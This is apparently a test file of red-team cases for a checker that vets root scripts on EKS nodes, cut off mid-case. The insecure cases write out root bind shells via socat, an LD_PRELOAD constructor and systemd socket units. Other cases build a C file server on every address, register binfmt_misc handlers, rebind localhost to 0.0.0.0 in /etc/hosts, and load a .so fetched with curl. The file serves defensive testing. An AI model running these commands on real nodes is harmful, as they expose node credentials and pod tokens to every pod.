// Red-team round 75 (fresh eyes) on EKS NODE security, area nsec: listeners of programs root runs on nodes, hardest on
// round 75's fixes (deno subcommands, native compiler outputs, binfmt_misc registrations, systemd-tmpfiles stdin,
// systemd-run --socket-property, Deno/Bun file-read APIs on loopback, Go flag kinds, pflag `--`, unit Environment=
// reset/later-wins, UnsetEnvironment=), both directions.
// Probed: deno eval --ext/--, repl --eval, test, task, `deno -A FILE`, `deno run -`, deno/bun compile outputs; make,
// ccache, c99, a.out, ghc, cargo build/run, zig run, gcc from stdin, compiler outputs by unit/copy, LD_PRELOAD of a
// built or downloaded .so; binfmt_misc via another mountpoint, cp into /etc/binfmt.d, tee, tmpfiles w, /proc/self/root
// alias, symlinks; tmpfiles `-` by pipe/`<`/here-string, a configuration operand, C+, --prefix; systemd-run
// --socket-property as a separate word, [::], several ListenStream=, unix/[::1] sockets, systemd-socket-activate; Go
// BoolVar/BoolFunc/Func/StringVar/Int, aliased import, --flag value, pflag interspersed/shorthand; unit Environment=
// with EnvironmentFile= both ways, UnsetEnvironment= (plain and NAME=VALUE, in /usr/lib drop-ins), %H, continuation
// lines, service.d/ top-level drop-ins, DefaultEnvironment=, quoted words, env(1), empty values under `||`, drop-in
// resets and overrides, two units running node, set-environment under a unit's own value.
// Misses (14 insecure accepted, 8 secure refused):
// - insecure, DENO-RUN-STDIN: `deno run -A - <<EOF` (code from standard input) read by nothing.
// - insecure, NATIVE-BUILD-TOOL: `make -C dir` building a C server; its output run by path.
// - insecure, COMPILER-WRAPPER: `ccache gcc -o ...`.   - insecure, COMPILER-NAME: POSIX `c99 -o ...`.
// - insecure, PRELOAD-PREFIX-ASSIGNMENT (3): `LD_PRELOAD=lib.so [nohup] python3 -m http.server --bind 127.0.0.1` with
//   a compiled or downloaded object (a shell prefix assignment; `env LD_PRELOAD=` is refused).
// - insecure, BINFMT-MOUNTPOINT: binfmt_misc mounted at /mnt/b, its register written.
// - insecure, BINFMT-DIRECTORY-DESTINATION: `cp x.conf /etc/binfmt.d` (directory destination).
// - insecure, PROC-ROOT-ALIAS (2): /proc/self/root/proc/sys/fs/binfmt_misc/register and /proc/self/root/etc/hosts.
// - insecure, TMPFILES-CONFIG-OPERAND: `systemd-tmpfiles --create /opt/ops/t.conf` (L+ /etc/hosts) unread, not refused.
// - insecure, BUN-COMPILE-OUTPUT / DENO-COMPILE-OUTPUT: `bun build --compile --outfile`, `deno compile -o` outputs run.
// - secure, RUNTIME-SERVE-FILE-API: Deno.open read-only under Deno.serve on ::1.
// - secure, GO-FLAG-KIND-FUNC: flag.Func takes a value (`-tag -addr=:8081` leaves addr loopback).
// - secure, UNIT-ENVFILE-PRECEDENCE: EnvironmentFile= HOST=127.0.0.1 overrides Environment=HOST=0.0.0.0.
// - secure, UNIT-UNSETENV-SAME-FILE: Environment=HOST=0.0.0.0 + UnsetEnvironment=HOST, `HOST || "127.0.0.1"`.
// - secure, UNIT-ENV-DROPIN-ORDER (2): a drop-in's reset/override of the unit file's HOST=0.0.0.0.
// - secure, UNIT-ENV-BY-PROGRAM-NAME: one unit's HOST reaches another unit's `node`.
// - secure, MANAGER-ENV-PRECEDENCE: set-environment HOST=0.0.0.0 under a unit's own HOST=127.0.0.1.
// Held: 43 of 57 insecure refused (deno eval/repl/test/task/`deno -A FILE`, a.out, unit-run and copied outputs, ghc,
// cargo, zig run, tee/tmpfiles-w/symlink binfmt registrations, tmpfiles stdin by pipe/`<`/here-string and C+, every
// socket-property spelling, systemd-socket-activate, Go BoolVar/BoolFunc/alias/--flag value/pflag, EnvironmentFile
// overriding to 0.0.0.0, UnsetEnvironment=NAME=VALUE, %H, continuation lines, service.d/, DefaultEnvironment=, empty
// values under `||`, /usr/lib drop-in unsets); 14 of 22 secure clean (loopback deno eval/serve readTextFile, gcc -E/-c,
// binfmt status reads and removal, tmpfiles --prefix and pipes of /run dirs, unix and [::1] socket units, Go Int/
// StringVar/non-flag stop, pflag shorthand `--`, quoted later-wins).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;
const script = devNodeScript;
const file = heredocFile;

const GO_MOD = ["module example.com/ops", "", "go 1.22"];
const goApp = (name: string, main: string[], run: string | string[]) =>
    script(name, [
        ...file("/opt/ops/go.mod", GO_MOD),
        ...file("/opt/ops/main.go", ["package main", "", ...main]),
        ...(Array.isArray(run) ? run : [`cd /opt/ops && ${run}`]),
    ]);
/** A Go file server of / on -addr (default loopback) with `extra` flag definitions (Go statements). */
const goServer = (imports: string[], extra: string[], prefix = "flag") => [
    `import (\n${imports.map(i => `\t${i}`).join("\n")}\n)`,
    "",
    "func main() {",
    `\taddr := ${prefix}.String("addr", "127.0.0.1:8080", "listen address")`,
    ...extra.map(l => `\t${l}`),
    `\t${prefix}.Parse()`,
    '\thttp.ListenAndServe(*addr, http.FileServer(http.Dir("/")))',
    "}",
];
const STD = ['"flag"', '"net/http"'];
const PFLAG = ['"net/http"', "", 'flag "github.com/spf13/pflag"'];
/** A Node.js reader of / on 8081 at `host` (a JavaScript expression). */
const nodeExpr = (host: string) => [
    'const http = require("http");',
    'const fs = require("fs");',
    `http.createServer((q, s) => fs.createReadStream(q.url).pipe(s)).listen(8081, ${host});`,
];
const HOST_OR_LO = 'process.env.HOST || "127.0.0.1"';
const REBOUND_HOSTS = ["0.0.0.0 localhost localhost.localdomain", "::1 localhost6"];
const pyServe = (host: string) => `cd / && nohup python3 -m http.server --bind ${host} 8081 >/var/log/ops.log 2>&1 &`;
const DENO_FETCH = "(req) => new Response(Deno.readTextFileSync(new URL(req.url).pathname))";
const DENO_ALL = `Deno.serve({ port: 8081 }, ${DENO_FETCH})`;
const C_SERVER = [
    "#include <netinet/in.h>",
    "#include <fcntl.h>",
    "#include <unistd.h>",
    "#include <sys/sendfile.h>",
    "int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = { AF_INET, htons(8081), { INADDR_ANY } };",
    "  bind(s, (void *)&a, sizeof a); listen(s, 8); for (;;) { int c = accept(s, 0, 0); char p[256] = {0}; read(c, p, 255);",
    "  int f = open(p, O_RDONLY); sendfile(c, f, 0, 1 << 20); close(f); close(c); } }",
];
const BINFMT_LINE = ":ops:E::ops::/opt/ops/run:";

const insecure: NodeCase[] = [
    // ---- deno subcommands ----
    // Deno docs "deno eval" (options such as --ext <EXT> take a value; the first operand is the code, run with all permissions).
    dev(
        "deno eval --ext ts CODE (--ext takes a separate value)",
        script("dev-nsec1-rt75n", [`nohup deno eval --ext ts '${DENO_ALL}' >/var/log/ops.log 2>&1 &`]),
    ),
    // Deno docs "deno repl" (--eval <code>: "Evaluates the provided code when the REPL starts").
    dev(
        "deno repl --eval CODE",
        script("dev-nsec2-rt75n", [`nohup deno repl --eval '${DENO_ALL}' >/var/log/ops.log 2>&1 &`]),
    ),
    // Deno docs "deno test" (runs the module: a top-level Deno.serve listens on 0.0.0.0).
    dev(
        "deno test -A /opt/ops/serve_test.ts",
        script("dev-nsec3-rt75n", [
            ...file("/opt/ops/serve_test.ts", [`${DENO_ALL};`]),
            "nohup deno test -A /opt/ops/serve_test.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Deno docs "deno task" (runs the deno.json task's command line).
    dev(
        "deno task serve (deno.json task: deno eval CODE)",
        script("dev-nsec4-rt75n", [
            ...file("/opt/ops/deno.json", [`{ "tasks": { "serve": "deno eval '${DENO_ALL.replace(/"/g, '\\"')}'" } }`]),
            "cd /opt/ops && nohup deno task serve >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Deno docs "deno run" (Deno 2: `deno [OPTIONS] SCRIPT` also runs the script).
    dev(
        "deno --allow-all /opt/ops/serve.ts (options before the script, Deno 2)",
        script("dev-nsec5-rt75n", [
            ...file("/opt/ops/serve.ts", [`${DENO_ALL};`]),
            "nohup deno --allow-all /opt/ops/serve.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Deno docs "deno eval": the code after `--`.
    dev(
        "deno eval -- CODE after --",
        script("dev-nsec6-rt75n", [`nohup deno eval -- '${DENO_ALL}' >/var/log/ops.log 2>&1 &`]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class DENO-RUN-STDIN. Deno docs "deno run" (a script of `-` is read from standard input:
    // `cat main.ts | deno run -`) and Deno API Deno.serve (hostname "@default "0.0.0.0""): the here-document is a file
    // server on every address, so every pod reads /var/lib/kubelet/kubeconfig and every pod's token. The pack reads
    // `deno run FILE` (javascript.ts nodeRunnerArgs/nodeEntry) but `-` names no file it reads and nothing fails closed.
    // Fix: `deno run [OPTIONS] -` (and `bun run -`/`node -`) reads the code where stdin is fed (a here-document, `< FILE`),
    // else unread code (javascript.ts nodeEntry: "-" entry).
    dev(
        "deno run -A - <<EOF (script from stdin)",
        script("dev-nsec7-rt75n", ["deno run -A - <<'EOF' &", `${DENO_ALL};`, "EOF"]),
    ),
    // ---- native compilers ----
    // Was a MISS (fixed in round 75): insecure accepted, class NATIVE-BUILD-TOOL. GNU make manual "Rule Syntax" (a recipe's lines are run by
    // the shell; `-C dir` changes directory first): `make` runs `cc -o srv srv.c` and /opt/ops/srv is the C file server on
    // INADDR_ANY (ip(7)): every pod reads any node file. commandServers.ts nativeBuildOutputs knows compiler drivers only;
    // make (cmake --build, ninja, meson compile, scons) is an ordinary command, its output an ordinary program run by path.
    // Fix: a build tool run in a directory holding a build file user data wrote (Makefile, CMakeLists.txt, build.ninja,
    // meson.build) makes every file under that directory a program the pack does not read (fail closed when run), or
    // read the Makefile's recipes as shell lines.
    dev(
        "make -C /opt/ops (Makefile: cc -o srv srv.c); /opt/ops/srv",
        script("dev-nsec8-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            ...file("/opt/ops/Makefile", ["srv: srv.c", "\tcc -O2 -o srv srv.c"]),
            "make -C /opt/ops",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class COMPILER-WRAPPER. ccache(1) ("ccache compiler [compiler options]": the wrapper
    // runs the compiler with the options); distcc(1), sccache alike: gcc writes /opt/ops/srv, a C server on every address.
    // nativeBuildOutputs tests the command word (ccache), never the compiler it wraps. Fix: strip ccache/distcc/sccache/
    // icecc (and their options) before NATIVE_COMPILERS, as wrappersOf strips env/nice.
    dev(
        "ccache gcc -o /opt/ops/srv srv.c; /opt/ops/srv",
        script("dev-nsec9-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "ccache gcc -O2 -o /opt/ops/srv /opt/ops/srv.c",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class COMPILER-NAME. POSIX c99 utility ("c99 - compile standard C programs",
    // "-o outfile ... default a.out"): the same C server. NATIVE_COMPILERS (commandServers.ts) lacks c89/c99/c11/c17 (and
    // cpp-less drivers such as clang-cl? not on Linux). Fix: add c89|c99|c11|c17 (POSIX/gcc wrappers) to NATIVE_COMPILERS.
    dev(
        "c99 -o /opt/ops/srv srv.c (POSIX c99); /opt/ops/srv",
        script("dev-nsec10-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "c99 -o /opt/ops/srv /opt/ops/srv.c",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // gcc(1) "If -o is not specified, the default is to put an executable file in a.out" (in the working directory).
    dev(
        "cd /opt/ops && cc srv.c (a.out); ./a.out",
        script("dev-nsec11-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "cd /opt/ops && cc srv.c",
            "cd /opt/ops && nohup ./a.out >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // systemd.service(5) ExecStart= runs the compiler output as root.
    dev(
        "gcc -o /opt/ops/srv srv.c; unit ExecStart=/opt/ops/srv",
        script("dev-nsec12-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "gcc -O2 -o /opt/ops/srv /opt/ops/srv.c",
            ...systemdUnit("ops", ["ExecStart=/opt/ops/srv"]),
        ]),
    ),
    // GHC User's Guide "-o file" (a Haskell program spawning a root shell relay).
    dev(
        "ghc -o /opt/ops/srv Srv.hs (Haskell); /opt/ops/srv",
        script("dev-nsec13-rt75n", [
            ...file("/opt/ops/Srv.hs", [
                "import System.Process",
                'main = callCommand "socat TCP-LISTEN:8081,fork EXEC:/bin/sh"',
            ]),
            "ghc -o /opt/ops/srv /opt/ops/Srv.hs",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class PRELOAD-PREFIX-ASSIGNMENT. ld.so(8) LD_PRELOAD ("A list of additional,
    // user-specified, ELF shared objects to be loaded before all others"; a constructor runs before main) and bash(1)
    // "SIMPLE COMMAND EXPANSION" (NAME=VALUE words before the command are its environment, kept through nohup): the
    // loopback http.server loads libx.so, whose constructor starts `socat TCP-LISTEN:8082,fork EXEC:/bin/sh` on every
    // address: a root shell for every pod. The pack judges `env LD_PRELOAD=...` as unread (commandServers.ts wrappers) and
    // LOADER_VARIABLES in environment files (formats.ts), but a shell prefix assignment on the command line is not
    // judged, nor is the compiler's .so output. Fix: a prefix assignment of a LOADER_VARIABLE (LD_PRELOAD, LD_LIBRARY_PATH,
    // LD_AUDIT, PYTHONPATH ...) naming anything but root-owned system paths makes the program unread code (fail closed).
    dev(
        "gcc -shared -o /opt/ops/libx.so x.c; LD_PRELOAD=/opt/ops/libx.so python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec14-rt75n", [
            ...file("/opt/ops/x.c", [
                '__attribute__((constructor)) static void f(void) { system("socat TCP-LISTEN:8082,fork EXEC:/bin/sh &"); }',
            ]),
            "gcc -shared -fPIC -o /opt/ops/libx.so /opt/ops/x.c",
            "cd / && LD_PRELOAD=/opt/ops/libx.so nohup python3 -m http.server --bind 127.0.0.1 8081 >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // The Cargo Book "cargo build" (--release: target/release/<name>).
    dev(
        "cargo build --release in /opt/ops (main.rs); target/release/ops",
        script("dev-nsec15-rt75n", [
            ...file("/opt/ops/Cargo.toml", ["[package]", 'name = "ops"', 'version = "0.1.0"', 'edition = "2021"']),
            ...file("/opt/ops/src/main.rs", [
                "use std::process::Command;",
                'fn main() { Command::new("socat").args(["TCP-LISTEN:8081,fork", "EXEC:/bin/sh"]).status().unwrap(); }',
            ]),
            "cd /opt/ops && cargo build --release",
            "nohup /opt/ops/target/release/ops >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // gcc(1) "-x language", input `-` (standard input).
    dev(
        "gcc -x c - -o /opt/ops/srv <<EOF (source from stdin); /opt/ops/srv",
        script("dev-nsec16-rt75n", [
            "gcc -x c - -o /opt/ops/srv <<'EOF'",
            ...C_SERVER,
            "EOF",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // ---- binfmt_misc ----
    // Was a MISS (fixed in round 75): insecure accepted, class BINFMT-MOUNTPOINT. Linux admin-guide binfmt_misc ("mount binfmt_misc -t
    // binfmt_misc /proc/sys/fs/binfmt_misc": the filesystem can be mounted anywhere, each mount's register file registers
    // with the same kernel table): every file with extension .ops root executes now runs /opt/ops/run. rootWrites.ts
    // BINFMT_REGISTRATION matches only /proc/sys/fs/binfmt_misc/register and binfmt.d paths. Fix: `mount -t binfmt_misc`
    // (any mountpoint, or fstab/mount units of type binfmt_misc) is itself a registration opening, or follow the mountpoint.
    dev(
        "mount -t binfmt_misc none /mnt/b; echo LINE > /mnt/b/register",
        script("dev-nsec17-rt75n", [
            "mkdir -p /mnt/b && mount -t binfmt_misc none /mnt/b",
            `echo '${BINFMT_LINE}' > /mnt/b/register`,
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class BINFMT-DIRECTORY-DESTINATION. cp(1) ("cp [OPTION]... SOURCE... DIRECTORY":
    // copy into DIRECTORY) and binfmt.d(5) (/etc/binfmt.d/*.conf registered at boot by systemd-binfmt.service): the format
    // is registered. The write reaches rootWrites.ts binfmtRegistration as /etc/binfmt.d (no trailing slash, the file name
    // not appended), which BINFMT_REGISTRATION (`/etc/binfmt.d/` prefix) misses. Fix: match the directory itself
    // (`binfmt\.d(/|$)`), or resolve a directory destination to DIR/basename(SOURCE) before judging.
    dev(
        "cp /opt/ops/ops.conf /etc/binfmt.d (directory destination)",
        script("dev-nsec18-rt75n", [...file("/opt/ops/ops.conf", [BINFMT_LINE]), "cp /opt/ops/ops.conf /etc/binfmt.d"]),
    ),
    // Linux admin-guide binfmt_misc (register by writing the line to /proc/sys/fs/binfmt_misc/register); tee(1).
    dev(
        "echo LINE | tee /proc/sys/fs/binfmt_misc/register",
        script("dev-nsec19-rt75n", [`echo '${BINFMT_LINE}' | tee /proc/sys/fs/binfmt_misc/register >/dev/null`]),
    ),
    // tmpfiles.d(5) "w" ("Write the argument parameter to a file, if the file exists").
    dev(
        "tmpfiles.d w /proc/sys/fs/binfmt_misc/register",
        script("dev-nsec20-rt75n", [
            ...file("/etc/tmpfiles.d/ops.conf", [`w /proc/sys/fs/binfmt_misc/register - - - - ${BINFMT_LINE}`]),
            "systemd-tmpfiles --create",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class PROC-ROOT-ALIAS. proc(5) "/proc/pid/root ... a symbolic link that points to the
    // process's root directory" (/proc/self/root/X is /X for root on the host): the binfmt registration is written.
    // binfmtRegistration uses posix.normalize only. Fix: canonicalize /proc/self/root/, /proc/thread-self/root/ and
    // /proc/<pid>/root/ (pid 1 = host root) prefixes away before judging any written path (one place: RootReads path
    // normalization), as the next case (/etc/hosts) also shows.
    dev(
        "echo LINE > /proc/self/root/proc/sys/fs/binfmt_misc/register",
        script("dev-nsec21-rt75n", [`echo '${BINFMT_LINE}' > /proc/self/root/proc/sys/fs/binfmt_misc/register`]),
    ),
    // ln(1) -s into /etc/binfmt.d (binfmt.d(5) reads the link's target).
    dev(
        "ln -s /opt/ops/ops.conf /etc/binfmt.d/ops.conf",
        script("dev-nsec22-rt75n", [
            ...file("/opt/ops/ops.conf", [BINFMT_LINE]),
            "ln -sf /opt/ops/ops.conf /etc/binfmt.d/ops.conf",
        ]),
    ),
    // ---- systemd-tmpfiles stdin ----
    // systemd-tmpfiles(8) "-" (configuration from standard input), fed by a pipe.
    dev(
        "echo 'L+ /etc/hosts ...' | systemd-tmpfiles --create -",
        script("dev-nsec23-rt75n", [
            ...file("/opt/ops/hosts", REBOUND_HOSTS),
            "echo 'L+ /etc/hosts - - - - /opt/ops/hosts' | systemd-tmpfiles --create -",
            pyServe("localhost"),
        ]),
    ),
    // systemd-tmpfiles(8) "-" with `< FILE`.
    dev(
        "systemd-tmpfiles --create - < /opt/ops/t.conf (L+ /etc/hosts)",
        script("dev-nsec24-rt75n", [
            ...file("/opt/ops/hosts", REBOUND_HOSTS),
            ...file("/opt/ops/t.conf", ["L+ /etc/hosts - - - - /opt/ops/hosts"]),
            "systemd-tmpfiles --create - < /opt/ops/t.conf",
            pyServe("localhost"),
        ]),
    ),
    // bash(1) "Here Strings" feeding systemd-tmpfiles(8) `-`; tmpfiles.d(5) f+ writes the argument.
    dev(
        "systemd-tmpfiles --create - <<< 'f+ /etc/hosts - - - - 0.0.0.0 localhost'",
        script("dev-nsec25-rt75n", [
            "systemd-tmpfiles --create - <<< 'f+ /etc/hosts - - - - 0.0.0.0 localhost'",
            pyServe("localhost"),
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class TMPFILES-CONFIG-OPERAND. systemd-tmpfiles(8) ("If one or more filenames are
    // passed on the command line, only the directives in these files are applied"): /opt/ops/t.conf's `L+ /etc/hosts`
    // links /etc/hosts to a file mapping localhost to 0.0.0.0, so `http.server --bind localhost` (a file server of /)
    // listens on every address. rootReads.ts KNOWN_WRITERS["systemd-tmpfiles"] returns undefined ("may write anywhere")
    // for a configuration path, but nothing refuses it or reads the file. Fix: read each operand configuration file the
    // pack has text for with RootReads.tmpfiles (as `-` is), and make an unreadable one fail closed (writtenUnknown of
    // RESOLVER_PATHS).
    dev(
        "systemd-tmpfiles --create /opt/ops/t.conf (a configuration path: L+ /etc/hosts)",
        script("dev-nsec26-rt75n", [
            ...file("/opt/ops/hosts", REBOUND_HOSTS),
            ...file("/opt/ops/t.conf", ["L+ /etc/hosts - - - - /opt/ops/hosts"]),
            "systemd-tmpfiles --create /opt/ops/t.conf",
            pyServe("localhost"),
        ]),
    ),
    // tmpfiles.d(5) "C+" (copy, replacing) from a rebound hosts file.
    dev(
        "systemd-tmpfiles --create - <<EOF (C+ /etc/hosts from a rebound hosts file)",
        script("dev-nsec27-rt75n", [
            ...file("/opt/ops/hosts", REBOUND_HOSTS),
            "systemd-tmpfiles --create - <<'EOF'",
            "C+ /etc/hosts - - - - /opt/ops/hosts",
            "EOF",
            pyServe("localhost"),
        ]),
    ),
    // ---- systemd-run socket units / socket activation ----
    // systemd-run(1) --socket-property (value as the next word).
    dev(
        "systemd-run --socket-property ListenStream=8081 (separate word) ... /bin/sh",
        script("dev-nsec28-rt75n", [
            "systemd-run --unit ops --socket-property ListenStream=8081 --socket-property Accept=yes -p StandardInput=socket -p StandardOutput=socket /bin/sh",
        ]),
    ),
    // systemd-socket-activate(1) (-l ADDRESS, --accept, --inetd: the connection is the shell's stdin/stdout).
    dev(
        "systemd-socket-activate -l 8081 --accept --inetd /bin/sh",
        script("dev-nsec29-rt75n", [
            "nohup systemd-socket-activate -l 8081 --accept --inetd /bin/sh >/dev/null 2>&1 &",
        ]),
    ),
    // systemd.socket(5) ListenStream=[::]:8081 (every IPv6/IPv4 address).
    dev(
        "systemd-run --socket-property=ListenStream=[::]:8081 --socket-property=Accept=yes -p StandardInput=socket bash -i",
        script("dev-nsec30-rt75n", [
            "systemd-run --socket-property=ListenStream=[::]:8081 --socket-property=Accept=yes -p StandardInput=socket -p StandardOutput=socket bash -i",
        ]),
    ),
    // systemd.socket(5) (several ListenStream= lines: the socket listens on each).
    dev(
        "systemd-run --socket-property=ListenStream=127.0.0.1:8081 --socket-property=ListenStream=8082 ... /bin/sh (second address)",
        script("dev-nsec31-rt75n", [
            "systemd-run --unit ops --socket-property=ListenStream=127.0.0.1:8081 --socket-property=ListenStream=8082 --socket-property=Accept=yes -p StandardInput=socket -p StandardOutput=socket /bin/sh",
        ]),
    ),
    // ---- Go flag kinds ----
    // pkg.go.dev flag BoolVar: a boolean flag takes no separate value; -addr=:8081 is parsed.
    dev(
        'go: flag.BoolVar(&v, "v"); go run . -v -addr=:8081',
        goApp(
            "dev-nsec32-rt75n",
            goServer(STD, ["var v bool", 'flag.BoolVar(&v, "v", false, "verbose")']),
            "nohup go run . -v -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag BoolFunc ("like Func but the flag does not require a value").
    dev(
        'go: flag.BoolFunc("trace"); go run . -trace -addr=:8081',
        goApp(
            "dev-nsec33-rt75n",
            goServer(STD, ['flag.BoolFunc("trace", "trace", func(string) error { return nil })']),
            "nohup go run . -trace -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // The Go Programming Language Specification "Import declarations" (a package name alias).
    dev(
        'go: import f "flag"; f.Bool("debug"); go run . -debug -addr=:8081',
        goApp(
            "dev-nsec34-rt75n",
            goServer(['f "flag"', '"net/http"'], ['_ = f.Bool("debug", false, "debug")'], "f"),
            "nohup go run . -debug -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // spf13/pflag README (flags interspersed with arguments before `--`).
    dev(
        "pflag: BoolP debug; go run . --debug :9 --addr=:8081 (interspersed: --addr parsed)",
        goApp(
            "dev-nsec35-rt75n",
            goServer(PFLAG, ['_ = flag.BoolP("debug", "d", false, "debug")']),
            "nohup go run . --debug :9 --addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag "Command line flag syntax" ("--flag // double dashes are also permitted", "-flag x").
    dev(
        "go: -tag=x --addr :8081 (double dash, separate value)",
        goApp(
            "dev-nsec36-rt75n",
            goServer(STD, ['_ = flag.String("tag", "", "tag")']),
            "nohup go run . -tag=x --addr :8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag (bool -debug, then `-addr :8081`).
    dev(
        "go: built binary, unit ExecStart=/opt/ops/srv -debug -addr :8081",
        goApp("dev-nsec37-rt75n", goServer(STD, ['_ = flag.Bool("debug", false, "debug")']), [
            "cd /opt/ops && go build -o /opt/ops/srv .",
            ...systemdUnit("ops", ["ExecStart=/opt/ops/srv -debug -addr :8081"]),
        ]),
    ),
    // ---- unit Environment= ----
    // systemd.exec(5) EnvironmentFile= ("Settings from these files override settings made with Environment=").
    dev(
        "unit Environment=HOST=127.0.0.1, EnvironmentFile=/opt/ops/env (HOST=0.0.0.0 overrides)",
        script("dev-nsec38-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/opt/ops/env", ["HOST=0.0.0.0"]),
            ...systemdUnit("ops", [
                "Environment=HOST=127.0.0.1",
                "EnvironmentFile=/opt/ops/env",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // systemd.exec(5) UnsetEnvironment= (a VAR=VALUE entry removes the variable only with that exact value).
    dev(
        "unit Environment=HOST=0.0.0.0, UnsetEnvironment=HOST=127.0.0.1 (value differs: not unset)",
        script("dev-nsec39-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "UnsetEnvironment=HOST=127.0.0.1",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // systemd.unit(5) "Specifiers" (%H: the host name, which resolves to the node's address).
    dev(
        "unit Environment=HOST=%H (the node's host name)",
        script("dev-nsec40-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops", ["Environment=HOST=%H", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.syntax(7) (a line ending in a backslash continues on the next).
    dev(
        "unit Environment=HOST=127.0.0.1 \\ (continued) HOST=0.0.0.0",
        script("dev-nsec41-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops", [
                "Environment=HOST=127.0.0.1 \\",
                "  HOST=0.0.0.0",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // systemd.unit(5) (top-level drop-ins: service.d/ applies to every service).
    dev(
        "top-level drop-in /etc/systemd/system/service.d/host.conf Environment=HOST=0.0.0.0",
        script("dev-nsec42-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/service.d/host.conf", ["[Service]", "Environment=HOST=0.0.0.0"]),
            ...systemdUnit("ops", ["ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd-system.conf(5) DefaultEnvironment= (every unit's environment).
    dev(
        "/etc/systemd/system.conf.d DefaultEnvironment=HOST=0.0.0.0",
        script("dev-nsec43-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system.conf.d/host.conf", ["[Manager]", "DefaultEnvironment=HOST=0.0.0.0"]),
            ...systemdUnit("ops", ["ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5) Environment= (quoted assignments, later wins).
    dev(
        'unit Environment="HOST=127.0.0.1" "HOST=0.0.0.0" (quoted, later wins)',
        script("dev-nsec44-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops", [
                'Environment="HOST=127.0.0.1" "HOST=0.0.0.0"',
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // env(1) NAME=VALUE (the program's environment, over the unit's).
    dev(
        "unit Environment=HOST=127.0.0.1; ExecStart=/usr/bin/env HOST=0.0.0.0 node server.js",
        script("dev-nsec45-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops", [
                "Environment=HOST=127.0.0.1",
                "ExecStart=/usr/bin/env HOST=0.0.0.0 /usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class PROC-ROOT-ALIAS (resolver file). proc(5) /proc/pid/root and hosts(5): writing
    // /proc/self/root/etc/hosts writes /etc/hosts, now mapping localhost to 0.0.0.0, so `http.server --bind localhost` (a
    // file server of /) listens on every address: every pod reads the kubeconfig and every pod's token. The pack judges
    // the FINAL /etc/hosts by path (addresses.ts nameResolution / rootReads.ts RESOLVER_PATHS) and does not see the alias.
    // Fix: as above (canonicalize /proc/*/root prefixes, or treat any write under /proc/*/root as unknown to every judged
    // file).
    dev(
        "echo '0.0.0.0 localhost' > /proc/self/root/etc/hosts; http.server --bind localhost",
        script("dev-nsec46-rt75n", ["printf '0.0.0.0 localhost\\n' > /proc/self/root/etc/hosts", pyServe("localhost")]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class PRELOAD-PREFIX-ASSIGNMENT (downloaded object). ld.so(8) LD_PRELOAD, bash(1)
    // prefix assignments: the loopback server loads a downloaded shared object whose code the pack never reads. Same place
    // and fix as the compiled .so case.
    dev(
        "curl -o /opt/ops/libx.so URL; LD_PRELOAD=/opt/ops/libx.so python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec47-rt75n", [
            "curl -fsSL -o /opt/ops/libx.so https://artifacts.example.com/libx.so",
